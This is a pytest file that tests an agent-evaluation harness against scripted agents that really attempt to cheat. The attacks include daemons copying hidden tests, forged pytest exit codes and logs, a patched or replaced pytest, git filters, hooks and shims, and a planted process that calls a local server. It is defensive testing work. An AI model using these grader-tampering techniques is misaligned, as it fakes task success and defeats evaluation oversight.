"""The model under test is root in its container and may try anything: these attacks are carried
out for real, by scripted agents on the demo split, and each test asserts that the attack fails.

The runs of the harness start in the background, a few at a time, when the first test needs
them (they mostly wait on containers, and the machine is small); each test waits for the runs it
reads.
The attack programs run in the container; the app hooks are appended to the demo app's package
(`expenses/__init__.py`), so they run whenever the app is imported or started: by the build step
and the dev server of `run_tests.yml` and by the hidden test itself, which starts the app.
"""

from __future__ import annotations

import json
import os
import re
import shutil
import signal
import socket
import stat
import subprocess
import sys
import threading
import time
import uuid
from concurrent.futures import Future, ThreadPoolExecutor
from dataclasses import dataclass
from pathlib import Path

import pytest
from bridge import bridge_gateway
from cli_runs import own_peak_rss_kb, unique

from swelancer.sandbox.docker import DockerSandbox, remove_containers

pytestmark = pytest.mark.docker

ROOT = Path(__file__).resolve().parents[2]
ISSUES = ROOT / "tasks" / "demo" / "issues"
MARKER = "SWELANCER-HIDDEN" + "-TEST-7c1f0e"
RSS_LIMIT_KB = 500 * 1024
TRACE_CAP = 100_000_000  # user_tool.TRACE_COPY.max_file_bytes, the largest cap of a copy out
HANG_BOUND_S = 360.0
RUN_BOUND_S = 780.0
PARALLEL_RUNS = 6


# -- small helpers (as in test_isolation.py) ------------------------------------------------------


def python_block(code: str) -> str:
    return f"```python\n{code}\n```"


def program(body: str, **params: object) -> str:
    """Agent code: `body` with `PARAMS` (JSON-able values) defined before it."""
    return f"import json as _json\nPARAMS = _json.loads({json.dumps(params)!r})\n{body}"


def app_hook(body: str, **params: object) -> str:
    """Source appended to the app's package: runs `body` (with `P` = params) on every import of
    `expenses`, and never breaks the import itself."""
    return (
        "\n\n# planted by the agent\ntry:\n"
        f"    exec(compile({body!r}, '<planted>', 'exec'), {{'P': {params!r}, "
        "'__name__': 'planted'})\nexcept BaseException:\n    pass\n"
    )


INSTALL_HOOK = r"""
import pathlib
init = pathlib.Path("expenses/__init__.py")
init.write_text(init.read_text() + PARAMS["hook"])
print("the app now runs the attack whenever it is imported")
"""

DAEMON = r"""
import os
def daemon(fn):
    # double fork, new session, stdio on /dev/null: nothing waits for it, nothing owns it
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            try:
                import signal
                signal.signal(signal.SIGHUP, signal.SIG_IGN)
                signal.signal(signal.SIGTERM, signal.SIG_IGN)
                fd = os.open(os.devnull, os.O_RDWR)
                for n in (0, 1, 2):
                    os.dup2(fd, n)
                fn()
            finally:
                os._exit(0)
        os._exit(0)
    os.wait()

def put(path, text):  # atomically, so that a reader never sees the file empty
    tmp = f"{path}.{os.getpid()}.tmp"
    with open(tmp, "w") as f:
        f.write(text)
    os.replace(tmp, path)
"""


def needles(task: str) -> list[str]:
    """Text only the hidden files hold: the marker, the test's docstring, the gold code as the
    bug patch removes it (its `-` lines, which the repository given to the agent lacks)."""
    found = [MARKER] if task == "101" else []
    test = (ISSUES / task / "test.py").read_text()
    found.append(test.splitlines()[0])
    patch = (ISSUES / task / "bug_reintroduce.patch").read_text().splitlines()
    found += [line for line in patch if re.match(r"^-[^-]", line) and len(line) > 20][:4]
    return found


def leaks(text: str, task: str) -> list[str]:
    return [n for n in needles(task) if n in text]


def bad_terminal_chars(text: str) -> list[str]:
    """ESC, BEL, other C0 (but newline, tab) and C1 controls a terminal would act on."""
    bad = {c for c in text if (ord(c) < 32 and c not in "\n\t") or 127 <= ord(c) < 160}
    return sorted(repr(c) for c in bad)


# -- running the harness ---------------------------------------------------------------------------


@dataclass
class Scenario:
    name: str
    replies: list[str]
    args: list[str]
    bound_s: float = RUN_BOUND_S


@dataclass
class Run:
    name: str
    path: Path
    returncode: int | None
    stdout: str
    stderr: str
    seconds: float
    peak_rss_kb: int
    timed_out: bool

    def records(self) -> dict[str, dict]:
        """The attempt records by task id, each task recorded once."""
        file = self.path / "attempts.jsonl"
        lines = file.read_text(encoding="utf-8").split("\n") if file.exists() else []
        records = [json.loads(line) for line in lines if line.strip()]
        keys = [(r["task_id"], r["attempt"]) for r in records]
        assert len(keys) == len(set(keys)), f"an attempt was recorded twice: {keys}"
        return {r["task_id"]: r for r in records}

    def record(self, task: str) -> dict:
        records = self.records()
        assert task in records, f"{self.name}: no record of {task}; stderr:\n{self.stderr[-3000:]}"
        return records[task]

    def folder(self, task: str) -> Path:
        return self.path / "attempts" / task / "1"

    def events(self, task: str) -> list[dict]:
        text = (self.folder(task) / "transcript.jsonl").read_text(encoding="utf-8")
        return [json.loads(line) for line in text.split("\n") if line.strip()]

    def outputs(self, task: str) -> list[str]:
        """What the agent was shown: its commands' outputs and the user tool's answers."""
        kinds = ("command", "user_tool")
        return [e.get("output") or "" for e in self.events(task) if e["kind"] in kinds]

    def app_logs(self, task: str) -> str:
        logs = sorted(self.folder(task).glob("grading*/*/run-*/app.log"))
        return "\n".join(p.read_text(encoding="utf-8", errors="replace") for p in logs)

    def pytest_logs(self, task: str) -> str:
        logs = sorted(self.folder(task).glob("grading*/*/run-*/pytest.log"))
        return "\n".join(p.read_text(encoding="utf-8", errors="replace") for p in logs)


def swelancer_cmd(*args: str) -> list[str]:
    return [sys.executable, "-m", "swelancer", *args]


def execute(command: list[str], out_dir: Path, bound_s: float, procs: list | None = None):
    """Run `command` to its end (SIGTERM at `bound_s`, then SIGKILL): (returncode, stdout,
    stderr, seconds, the process's own peak RSS in KB, timed out). The process is added to
    `procs` while it runs."""
    out_dir.mkdir(parents=True, exist_ok=True)
    token = uuid.uuid4().hex[:6]
    out_path, err_path = out_dir / f"stdout-{token}.txt", out_dir / f"stderr-{token}.txt"
    start = time.monotonic()
    with out_path.open("wb") as out, err_path.open("wb") as err:
        proc = subprocess.Popen(command, stdout=out, stderr=err, stdin=subprocess.DEVNULL)
    if procs is not None:
        procs.append(proc)
    timed_out, status, peak_kb = False, None, 0
    deadline = start + bound_s
    while status is None:
        peak_kb = max(peak_kb, own_peak_rss_kb(proc.pid))
        pid, status_now, _ = os.wait4(proc.pid, os.WNOHANG)
        if pid:
            status = status_now
            break
        now = time.monotonic()
        if now > deadline and not timed_out:
            timed_out = True
            proc.send_signal(signal.SIGTERM)
            deadline = now + 60
        elif now > deadline:
            proc.kill()
            deadline = now + 3600
        time.sleep(0.2)
    proc.returncode = os.waitstatus_to_exitcode(status)
    if procs is not None:
        procs.remove(proc)
    seconds = time.monotonic() - start
    stdout = out_path.read_text(encoding="utf-8", errors="surrogateescape")
    stderr = err_path.read_text(encoding="utf-8", errors="surrogateescape")
    return proc.returncode, stdout, stderr, seconds, peak_kb, timed_out


class Runs:
    """The harness runs of the scenarios, started in the background."""

    def __init__(self, base: Path, prefix: str, client) -> None:
        self.base = base
        self.prefix = prefix
        self.client = client
        self.pool = ThreadPoolExecutor(max_workers=PARALLEL_RUNS, thread_name_prefix="attack")
        self.futures: dict[str, Future] = {}
        self.scenarios: dict[str, Scenario] = {}
        self.procs: list[subprocess.Popen] = []

    def run_id(self, name: str) -> str:
        return f"{self.prefix}-{name}"

    def start(self, scenario: Scenario) -> None:
        self.scenarios[scenario.name] = scenario
        self.futures[scenario.name] = self.pool.submit(self._run, scenario)

    def _run(self, scenario: Scenario) -> Run:
        where = self.base / scenario.name
        where.mkdir(parents=True, exist_ok=True)
        script = where / "script.json"
        script.write_text(json.dumps(scenario.replies))
        run_id = self.run_id(scenario.name)
        command = swelancer_cmd(
            "run", "--split", "demo", "--model", f"mock/scripted:{script}",
            "--results-dir", str(where / "results"), "--run-id", run_id, "--quiet",
            "--test-runs", "1", *scenario.args,
        )  # fmt: skip
        code, out, err, seconds, rss, timed_out = execute(
            command, where, scenario.bound_s, self.procs
        )
        if timed_out:
            remove_containers(self.client, run_id)
        return Run(scenario.name, where / "results" / run_id, code, out, err, seconds, rss,
                   timed_out)  # fmt: skip

    def get(self, name: str) -> Run:
        run = self.futures[name].result()
        assert not run.timed_out, (
            f"run {name} did not finish within {self.scenarios[name].bound_s:.0f} s; "
            f"stderr:\n{run.stderr[-3000:]}"
        )
        assert run.returncode == 0, f"run {name} exited {run.returncode}:\n{run.stderr[-3000:]}"
        assert "Traceback" not in run.stderr, run.stderr[-3000:]
        return run

    def close(self) -> None:
        """Stop what still runs (when a test stopped the session early): SIGTERM stops a run
        cleanly and removes its containers."""
        self.pool.shutdown(wait=False, cancel_futures=True)
        for proc in list(self.procs):
            proc.send_signal(signal.SIGTERM)
        self.pool.shutdown(wait=True)
        for name in self.futures:
            remove_containers(self.client, self.run_id(name))


class HostServer:
    """A TCP server on every address of this machine, recording what connects."""

    def __init__(self) -> None:
        self.sock = socket.socket()
        self.sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        self.sock.bind(("0.0.0.0", 0))
        self.sock.listen(64)
        self.port = self.sock.getsockname()[1]
        self.seen: list[tuple[str, bytes]] = []
        self._stop = False
        threading.Thread(target=self._serve, daemon=True).start()

    def _serve(self) -> None:
        while not self._stop:
            try:
                conn, addr = self.sock.accept()
            except OSError:
                return
            conn.settimeout(2)
            try:
                data = conn.recv(200)
            except OSError:
                data = b""
            self.seen.append((addr[0], data))
            conn.close()

    def close(self) -> None:
        self._stop = True
        self.sock.close()


# -- attack 1: reading the hidden test, the gold patch and the verdict -----------------------------

POLLERS = (
    DAEMON
    + r"""
import os, shutil, subprocess, time
tid = os.environ["ISSUE_ID"]
if tid == PARAMS["poller_task"]:
    def poll():
        end = time.time() + 900
        while time.time() < end:
            for root, dirs, files in os.walk("/app/tests"):
                for name in files:
                    src = os.path.join(root, name)
                    for dest_root in ("/tmp/stash", "/app/expensify/.stash"):
                        dest = dest_root + src
                        try:
                            os.makedirs(os.path.dirname(dest), exist_ok=True)
                            shutil.copyfile(src, dest)
                        except OSError:
                            pass
            time.sleep(0.02)
    daemon(poll)
    subprocess.Popen(
        ["setsid", "nohup", "sh", "-c",
         "while :; do cp -r /app/tests /tmp/stash-sh 2>/dev/null; sleep 0.1; done"],
        stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
    )
    print("two pollers of /app/tests left running")
else:
    exec(PARAMS["install"])
"""
)

LEAK_HOOK = (
    DAEMON
    + r"""
import glob, os, shutil, time
if os.path.isdir("/app/tests/issues"):
    places = ("/tmp/stash-app", "/app/expensify/.stash-app", "/app/expensify/user_tool/output_leak")
    def copy_all():
        for dest in places:
            os.makedirs(dest, exist_ok=True)
            for f in glob.glob("/app/tests/issues/*/*") + glob.glob("/app/tests/logs/*/*"):
                if os.path.isfile(f):
                    shutil.copyfile(f, os.path.join(dest, f.strip("/").replace("/", "_")))
    copy_all()
    if not os.path.exists("/tmp/.swl-verdict-watch"):
        open("/tmp/.swl-verdict-watch", "w").close()
        def watch():  # the verdict is written after the test: copy it as soon as it is there
            end = time.time() + 120
            while time.time() < end:
                if glob.glob("/app/tests/logs/*/pytest_exit_code"):
                    copy_all()
                    return
                time.sleep(0.005)
        daemon(watch)
"""
)

READ_STASH = r"""
import os, subprocess
shown = 0
for top in ("/tmp/stash", "/tmp/stash-sh", "/app/expensify/.stash", "/tmp/stash-app",
            "/app/expensify/.stash-app", "/app/expensify/user_tool"):
    for root, dirs, files in os.walk(top):
        for name in sorted(files):
            path = os.path.join(root, name)
            print("== FILE", path)
            try:
                with open(path, errors="replace") as f:
                    text = f.read(20_000)
            except OSError as exc:
                text = f"unreadable: {exc}"
            if shown < 1_000_000:
                print(text)
                shown += len(text)
print(subprocess.run(["ps", "-eo", "pid,args"], capture_output=True, text=True).stdout)
"""


def leak_scenario(mode: str) -> Scenario:
    code = program(POLLERS, poller_task="101", install=INSTALL_HOOK, hook=app_hook(LEAK_HOOK))
    replies = [
        python_block(code),
        "Let a user try it.\n<user-tool>",
        python_block(READ_STASH),
        "DONE",
    ]
    return Scenario(
        f"leak-ut-{mode}", replies, ["--task", "101", "--task", "102_1", "-j", "2",
                                     "--user-tool-in", mode],
    )  # fmt: skip


def from_the_container(run: Run, task: str) -> dict[str, str]:
    """What of the container reached the attempt folder and the agent: the agent's outputs,
    patch.diff and the user tool's trace files."""
    texts = {f"output {n}": out for n, out in enumerate(run.outputs(task))}
    folder = run.folder(task)
    files = [folder / "patch.diff", *sorted((folder / "user_tool").rglob("*"))]
    for path in files:
        if path.is_file() and not path.is_symlink():
            rel = path.relative_to(folder).as_posix()
            texts[rel] = path.read_bytes()[:50_000_000].decode("utf-8", "replace")
    return texts


@pytest.mark.parametrize("mode", ["fresh", "same"])
def test_processes_left_running_see_no_hidden_test_gold_patch_or_verdict(runs, mode):
    """Pollers (double fork + setsid, and setsid nohup) copy whatever appears in /app/tests; the
    agent calls the user tool and reads the stash afterwards: nothing was there to copy."""
    run = runs.get(f"leak-ut-{mode}")
    record = run.record("101")
    assert record["status"] == "failed", record
    outputs = run.outputs("101")
    assert "two pollers of /app/tests left running" in outputs[0]
    assert any("The user tool finished" in out for out in outputs), outputs
    found = {where: leaks(text, "101") for where, text in from_the_container(run, "101").items()}
    assert not {k: v for k, v in found.items() if v}, found


@pytest.mark.parametrize("mode", ["fresh", "same"])
def test_the_app_run_by_the_user_tool_carries_no_hidden_test_out(runs, mode):
    """The user tool starts the agent's app beside the hidden tests (the test starts it): the
    app copies them, and the verdict once written, into the trace folder and /tmp. Nothing of
    them may reach the agent's later turns or the attempt folder."""
    run = runs.get(f"leak-ut-{mode}")
    record = run.record("102_1")
    assert record["status"] == "failed", record
    seen = from_the_container(run, "102_1")
    found = {where: leaks(text, "102_1") for where, text in seen.items()}
    assert not {k: v for k, v in found.items() if v}, (
        f"the hidden test of 102_1 reached the agent or the attempt folder: {found}"
    )


# -- attack 2: passing without a fix by forging the test run ---------------------------------------

TAMPER_KINDS = {
    "101": "test_py",
    "102_1": "conftest",
    "103": "ini",
    "104": "exit_code",
    "105": "site_packages",
    "106": "usr_bin_pytest",
    "107_1": "probe",
    "108": "forge_all",
}

TAMPER_HOOK = (
    DAEMON
    + r"""
import glob, os, socket, time
kind = P["kinds"].get(os.environ.get("ISSUE_ID", ""))
flag = f"/tmp/.swl-tamper-{kind}"
# The probe looks wherever the app runs (no tests are there now); the others need the tests
if kind and (kind == "probe" or os.path.isdir("/app/tests/issues")) and (
    kind == "probe" or not os.path.exists(flag)
):
    open(flag, "w").close()
    passing = "def test_ok():\n    pass\n"
    plugin = ("import pytest\n\n@pytest.hookimpl(tryfirst=True)\n"
              "def pytest_pyfunc_call(pyfuncitem):\n    return True\n")
    summary = "=" * 20 + " 1 passed in 0.42s " + "=" * 20 + "\n"
    if kind == "test_py":
        for test in glob.glob("/app/tests/issues/*/test.py"):
            with open(test, "w") as f:
                f.write(passing)
    elif kind == "conftest":
        for folder in glob.glob("/app/tests/issues/*/"):
            with open(folder + "conftest.py", "w") as f:
                f.write(plugin)
    elif kind == "ini":
        with open("/app/tests/pytest.ini", "w") as f:
            f.write("[pytest]\naddopts = -p no:cacheprovider\n")
        with open("/app/tests/conftest.py", "w") as f:
            f.write(plugin)
    elif kind == "exit_code":
        def forge():
            end = time.time() + 600
            while time.time() < end:
                for folder in glob.glob("/app/tests/logs/*/"):
                    try:
                        put(folder + "pytest_exit_code", "0\n")
                    except OSError:
                        pass
                time.sleep(0.01)
        daemon(forge)
    elif kind == "site_packages":
        import pytest
        with open(os.path.join(os.path.dirname(pytest.__file__), "__init__.py"), "a") as f:
            f.write("\ndef console_main():\n    print(%r)\n    raise SystemExit(0)\n" % summary)
    elif kind == "usr_bin_pytest":
        for path in ("/usr/bin/pytest", "/usr/local/bin/pytest"):
            with open(path + ".new", "w") as f:
                f.write("#!/bin/sh\necho '%s'\nexit 0\n" % summary.strip())
            os.chmod(path + ".new", 0o755)
            os.replace(path + ".new", path)
    elif kind == "probe":
        try:
            issues = ",".join(sorted(os.listdir("/app/tests/issues")))
        except OSError:
            issues = "none"
        seen = ["ISSUES=" + issues]
        try:
            with socket.create_connection((P["host"], P["port"]), timeout=5) as s:
                s.sendall(b"fresh-grader")
            seen.append("CONNECTED")
        except OSError as exc:
            seen.append("NO-CONNECTION=" + type(exc).__name__)
        print("PROBE " + " ".join(seen), flush=True)  # into the app's log
    elif kind == "forge_all":
        # a report of a passing pytest task, written into the playbook's own output
        for pid in os.listdir("/proc"):
            try:
                with open(f"/proc/{pid}/cmdline", "rb") as f:
                    argv = f.read()
            except OSError:
                continue
            if b"ansible-playbook" in argv and b"run_tests.yml" in argv:
                try:
                    with open(f"/proc/{pid}/fd/1", "w") as out:
                        out.write("\nTASK [Run pytest] ****\nchanged: [localhost]\n\n")
                except OSError:
                    pass
        def forge():
            end = time.time() + 600
            while time.time() < end:
                for folder in glob.glob("/app/tests/logs/*/"):
                    try:
                        with open(folder + "pytest_exit_code") as f:
                            code = f.read().strip()
                    except OSError:
                        continue
                    if code != "0":
                        put(folder + "pytest.log", summary)
                        put(folder + "pytest_exit_code", "0\n")
                time.sleep(0.002)
        daemon(forge)
"""
)

# attack 3, task 109 of the same runs: hooks, filters, fsmonitor and shims of git, sh, python...
EVIL = r"""
import glob, os, re, socket, sys, time
name = sys.argv[1] if len(sys.argv) > 1 else "?"
if os.fork():
    sys.exit(0)
os.setsid()
if os.fork():
    os._exit(0)
fd = os.open(os.devnull, os.O_RDWR)
for n in (0, 1, 2):
    os.dup2(fd, n)
try:
    with socket.create_connection((HOST, PORT), timeout=2) as s:
        s.sendall(("planted:" + name).encode())
except OSError:
    pass
end, noted = time.time() + 300, set()
while time.time() < end:
    for folder in glob.glob("/app/tests/logs/*/"):
        try:
            tmp = f"{folder}.forged.{os.getpid()}"
            with open(tmp, "w") as f:
                f.write("0\n")
            os.replace(tmp, folder + "pytest_exit_code")
            with open(folder + "pytest.log") as f:
                done = re.search(r"^=+ .* in [0-9.]+s", f.read(), re.M)
            if done and folder not in noted:
                noted.add(folder)
                with open(folder + "pytest.log", "a") as f:
                    f.write("\nPLANTED-PROCESS-RAN " + name + "\n")
        except OSError:
            pass
    time.sleep(0.01)
"""

PLANT = r"""
import os, subprocess
def script(path, text):
    with open(path + ".new", "w") as f:
        f.write(text)
    os.chmod(path + ".new", 0o755)
    os.replace(path + ".new", path)
with open("/opt/evil.py", "w") as f:
    f.write(PARAMS["evil"])
evil = "/usr/bin/python3.11 /opt/evil.py"
with open("expenses/money.py", "a") as f:
    f.write("\n# ATTACK-3-CHANGE: this line must be in patch.diff\n")
with open(".gitattributes", "w") as f:
    f.write("* filter=x diff=x merge=x\n")
script("/opt/filter.sh", "#!/bin/dash\n" + evil + " git-$1 >/dev/null 2>&1\ncat\n")
with open(".git/config", "a") as f:
    f.write('[filter "x"]\n\tclean = /opt/filter.sh clean\n\tsmudge = /opt/filter.sh smudge\n'
            "\tprocess = /opt/filter.sh process\n\trequired = true\n"
            '[diff "x"]\n\ttextconv = /opt/filter.sh textconv\n\tcommand = /opt/filter.sh diff\n'
            "[core]\n\tfsmonitor = /opt/filter.sh fsmonitor\n\thooksPath = /opt/hooks\n"
            "\tpager = /opt/filter.sh pager\n")
os.makedirs("/opt/hooks", exist_ok=True)
for hook in ("pre-commit", "post-checkout", "post-index-change", "pre-auto-gc", "post-merge",
             "reference-transaction", "post-rewrite", "commit-msg", "fsmonitor-watchman"):
    for where in ("/opt/hooks/", ".git/hooks/"):
        script(where + hook, f"#!/bin/dash\n{evil} hook-{hook} >/dev/null 2>&1\nexit 0\n")
shims = {"git": "/usr/bin/git", "sh": "/usr/bin/dash", "python": "/usr/bin/python3.11",
         "python3": "/usr/bin/python3.11", "rm": "/usr/bin/rm", "timeout": "/usr/bin/timeout",
         "ansible-playbook": "/usr/bin/ansible-playbook", "pytest": "/usr/bin/pytest"}
for name, real in shims.items():
    script("/usr/local/bin/" + name,
           f'#!/bin/dash\n{evil} shim-{name} >/dev/null 2>&1\nexec {real} "$@"\n')
print(subprocess.run("git status --short | head -3; command -v sh python3 git",
                     shell=True, capture_output=True, text=True).stdout)
"""

TAMPER_PROGRAM = r"""
import os
if os.environ["ISSUE_ID"] == "109":
    exec(PARAMS["plant"])
else:
    exec(PARAMS["install"])
"""


def tamper_scenario(mode: str, host: str, port: int) -> Scenario:
    hook = app_hook(TAMPER_HOOK, kinds=TAMPER_KINDS, host=host, port=port)
    evil = EVIL.replace("(HOST, PORT)", repr((host, port)))
    code = program(TAMPER_PROGRAM, plant=PLANT, install=INSTALL_HOOK, hook=hook, evil=evil)
    replies = [python_block(code), python_block("print('turn 2 still works')"), "DONE"]
    shims = ["109"] if mode == "same" else []  # attack 3 is about the default, `same`
    tasks = [a for t in [*TAMPER_KINDS, *shims] for a in ("--task", t)]
    return Scenario(f"tamper-{mode}", replies, [*tasks, "-j", "4", "--grade-in", mode])


@pytest.mark.parametrize("kind", [k for k in TAMPER_KINDS.values() if k != "probe"])
@pytest.mark.parametrize("mode", ["same", "fresh"])
def test_a_forged_test_run_earns_nothing(runs, mode, kind):
    """The app, when it starts for the test, replaces the test with a passing one, drops a
    conftest.py or pytest.ini beside it, writes 0 into pytest_exit_code, patches pytest in
    site-packages, replaces the `pytest` command, or forges exit code, pytest.log and the
    playbook's report together: the attempt fails and earns $0."""
    run = runs.get(f"tamper-{mode}")
    task = next(t for t, k in TAMPER_KINDS.items() if k == kind)
    record = run.record(task)
    assert record["status"] == "failed" and record["earned_usd"] == 0, (
        f"{kind} passed under --grade-in {mode}: {record}"
    )
    if record["test_exit_codes"] == {task: [0]}:
        # the forged pass reached the harness (as every one of them does today): the record
        # must say the forgery was found
        assert record["tampering"], record


@pytest.mark.parametrize("mode", ["same", "fresh"])
def test_the_grader_is_offline_and_holds_only_its_own_task(runs, host_server, demo_image,
                                                          docker_client, mode):  # fmt: skip
    """The app, started for the test, connects to a server on this machine and lists the tests
    folder, and prints what it saw into its log. A control container with the network does
    reach the same server with the same code. The app's container holds no test at all."""
    server, gateway = host_server
    probe = (
        f"import socket\nwith socket.create_connection(({gateway!r}, {server.port}), timeout=5)"
        " as s:\n    s.sendall(b'control')\nprint('CONTROL CONNECTED')"
    )
    env = {"EVAL_VARIANT": "swe_manager"}
    with DockerSandbox.start(demo_image, env=env, client=docker_client) as control:
        assert "CONTROL CONNECTED" in control.exec(["python3", "-c", probe], timeout=60).output
    run = runs.get(f"tamper-{mode}")
    record = run.record("107_1")
    assert record["status"] == "failed", record
    lines = re.findall(r"PROBE .*$", run.app_logs("107_1"), re.MULTILINE)
    assert lines, run.app_logs("107_1")[-2000:]
    for line in lines:
        assert "ISSUES=none " in line, line  # no test where the app runs
        assert "NO-CONNECTION" in line, line
    assert b"fresh-grader" not in {data for _, data in server.seen}, server.seen


def test_hooks_filters_and_shims_neither_hide_the_change_nor_forge_the_verdict(runs, host_server):
    """A git filter, fsmonitor, pager and hooks in .git/config, `* filter=x` in .gitattributes,
    and shims of git, sh, python, python3, rm, timeout, ansible-playbook and pytest early on
    PATH that start a process writing 0 into pytest_exit_code and calling home."""
    server, _ = host_server
    run = runs.get("tamper-same")
    record = run.record("109")
    assert "turn 2 still works" in run.outputs("109")[1]  # the shims kept the container usable
    patch = (run.folder("109") / "patch.diff").read_text()
    assert "+# ATTACK-3-CHANGE: this line must be in patch.diff" in patch
    assert "+* filter=x diff=x merge=x" in patch
    assert record["status"] == "failed" and record["earned_usd"] == 0, record
    assert record["error"] is None, record
    planted = [data for _, data in server.seen if data.startswith(b"planted:")]
    assert not planted, planted
    # For the report: which planted programs the grading itself started (run_tests.yml runs
    # `python3`, `timeout` and `pytest` by name, as upstream's does).
    ran = sorted(set(re.findall(r"PLANTED-PROCESS-RAN (\S+)", run.pytest_logs("109"))))
    print(f"planted programs that ran during grading: {ran or 'none'}")


# -- attack 4: turning a failure into an infrastructure error ------------------------------------

ANOMALY_KINDS = {
    "101": "rm_git",
    "102_1": "fake_git",
    "103": "sigkill",
    "104": "sigint",
    "105": "exit_3",
    "106": "exit_5",
    "107_1": "no_exit_code",
    "108": "odd_exit_code",
}
SETTLED_BY_CONTROL = {"no_exit_code"}
OUT_OF_REACH = {"sigkill", "sigint", "exit_3", "exit_5", "odd_exit_code"}
"""Attacks on the judge's pytest and exit code: the app runs in another container (no pytest
there to signal, its own /usr/bin/pytest to replace, no exit code file to rewrite)."""

ANOMALY_HOOK = (
    DAEMON
    + r"""
import glob, os, signal, time
kind = P["kinds"].get(os.environ.get("ISSUE_ID", ""))
if kind and os.path.isdir("/app/tests"):  # while graded (the app's side holds only logs/)
    def pytest_pids():
        for pid in os.listdir("/proc"):
            try:
                with open(f"/proc/{pid}/cmdline", "rb") as f:
                    argv = f.read().split(b"\0")
            except OSError:
                continue
            if any(a == b"pytest" or a.endswith(b"/pytest") for a in argv[:2]):
                yield int(pid)
    if kind in ("sigkill", "sigint"):
        sig = signal.SIGKILL if kind == "sigkill" else signal.SIGINT
        for pid in pytest_pids():
            try:
                os.kill(pid, sig)
            except OSError:
                pass
    elif kind in ("exit_3", "exit_5"):
        with open("/usr/bin/pytest.new", "w") as f:
            f.write(f"#!/bin/sh\necho 'pytest: out of order'\nexit {kind[-1]}\n")
        os.chmod("/usr/bin/pytest.new", 0o755)
        os.replace("/usr/bin/pytest.new", "/usr/bin/pytest")
    elif kind == "no_exit_code":
        os._exit(3)  # the build step fails: the playbook never writes pytest_exit_code
    elif kind == "odd_exit_code" and not os.path.exists("/tmp/.swl-odd"):
        open("/tmp/.swl-odd", "w").close()
        def odd():
            end = time.time() + 600
            while time.time() < end:
                for folder in glob.glob("/app/tests/logs/*/"):
                    try:
                        with open(folder + "pytest_exit_code") as f:
                            if f.read().strip() != "-9":
                                put(folder + "pytest_exit_code", "-9\n")
                    except OSError:
                        pass
                time.sleep(0.002)
        daemon(odd)
"""
)

ANOMALY_PROGRAM = r"""
import os, shutil, subprocess
kind = PARAMS["kinds"][os.environ["ISSUE_ID"]]
if kind == "rm_git":
    shutil.rmtree(".git")
    print("no more .git")
elif kind == "fake_git":
    for path in ("/usr/bin/git", "/usr/local/bin/git"):
        with open(path + ".new", "w") as f:
            f.write("#!/bin/sh\nhead -c 2000 /dev/urandom\necho 'fatal: nothing is real'\nexit 0\n")
        os.chmod(path + ".new", 0o755)
        os.replace(path + ".new", path)
    print(len(subprocess.run(["git", "status"], capture_output=True).stdout), "bytes of garbage")
exec(PARAMS["install"])
"""


def anomaly_scenario(mode: str) -> Scenario:
    hook = app_hook(ANOMALY_HOOK, kinds=ANOMALY_KINDS)
    code = program(ANOMALY_PROGRAM, kinds=ANOMALY_KINDS, install=INSTALL_HOOK, hook=hook)
    tasks = [a for t in ANOMALY_KINDS for a in ("--task", t)]
    return Scenario(f"anomaly-{mode}", [python_block(code), "DONE"],
                    [*tasks, "-j", "4", "--grade-in", mode])  # fmt: skip


@pytest.mark.parametrize("kind", list(ANOMALY_KINDS.values()))
@pytest.mark.parametrize("mode", ["same", "fresh"])
def test_breaking_the_test_run_is_a_failure_not_an_error(runs, mode, kind):
    """`rm -rf .git`; a `git` that prints garbage; the app SIGKILLing the test's pytest or
    interrupting it; a pytest that exits 3 or 5; a build that fails (no exit code); an exit
    code rewritten to -9. Each is `failed`; a missing exit code is settled by a control run of
    the untouched task; the attacks on pytest and its exit code find none where the app runs."""
    run = runs.get(f"anomaly-{mode}")
    task = next(t for t, k in ANOMALY_KINDS.items() if k == kind)
    record = run.record(task)
    assert record["status"] == "failed" and record["error"] is None, record
    assert record["earned_usd"] == 0
    if kind in SETTLED_BY_CONTROL:
        assert record["control_exit_codes"], record
        assert "the untouched task grades cleanly" in (record["reason"] or ""), record
        assert record["test_exit_codes"][task][-1] == -1, record  # the build did fail
    if kind in OUT_OF_REACH:  # the judge's own verdict on the unfixed code, unforged
        assert set(record["test_exit_codes"][task]) == {1}, record
        assert record["tampering"] is None, record


TMP_LINK_HOOK = r"""
import os, shutil
if os.path.isdir("/app/tests") and not os.path.islink("/tmp"):
    shutil.rmtree("/tmp", ignore_errors=True)  # a folder of the image's: no rename on overlayfs
    os.symlink(P["target"], "/tmp")
"""

TMP_LINK_PROGRAM = r"""
import os, shutil
exec(PARAMS["install"])
if PARAMS["now"]:
    shutil.rmtree("/tmp")
    os.symlink(PARAMS["target"], "/tmp")
    print("/tmp is now a link to", os.readlink("/tmp"))
"""


def tmp_link_scenario(mode: str) -> Scenario:
    """`same`: the agent makes /tmp (where the harness stages the tests) a dangling link in its
    turn. `fresh`: its app does so in the grader while the first of two test runs runs."""
    target = "/nonexistent" if mode == "same" else "/proc/self"
    hook = app_hook(TMP_LINK_HOOK, target=target)
    code = program(TMP_LINK_PROGRAM, install=INSTALL_HOOK, hook=hook, now=mode == "same",
                   target=target)  # fmt: skip
    return Scenario(f"tmplink-{mode}", [python_block(code), "DONE"],
                    ["--task", "101", "--grade-in", mode, "--test-runs", "2"])  # fmt: skip


@pytest.mark.parametrize("mode", ["same", "fresh"])
def test_a_link_where_the_tests_are_staged_is_a_failure_not_an_error(runs, mode):
    """Putting the app's part of the playbook in place fails (the engine refuses the copy):
    the container's state is the agent's doing, so the attempt fails, with the reason, in both
    grading modes, never as an infrastructure error."""
    record = runs.get(f"tmplink-{mode}").record("101")
    assert record["status"] == "failed" and record["error"] is None, record
    assert record["earned_usd"] == 0 and record["graded_in"] == mode
    assert "could not be put in place for test run" in (record["reason"] or ""), record
    if mode == "same":  # nothing ran: the control says the task itself grades
        assert record["test_exit_codes"] == {"101": [-1]}, record
        assert "the untouched task grades cleanly" in record["reason"], record
    else:  # the first run ran, the second's app part could not be put in place
        assert len(record["test_exit_codes"]["101"]) == 2, record


# -- attacks 4 and 6: files, devices and sizes a container hands back ------------------------------

JUNK = r"""
import errno, os, stat
def junk(root, depth):
    notes = []
    os.makedirs(root, exist_ok=True)
    for kind, mode in (("block", stat.S_IFBLK), ("char", stat.S_IFCHR)):
        try:
            os.mknod(os.path.join(root, kind + "-device"), mode | 0o666, os.makedev(1, 3))
            notes.append(f"MKNOD-{kind}=made")
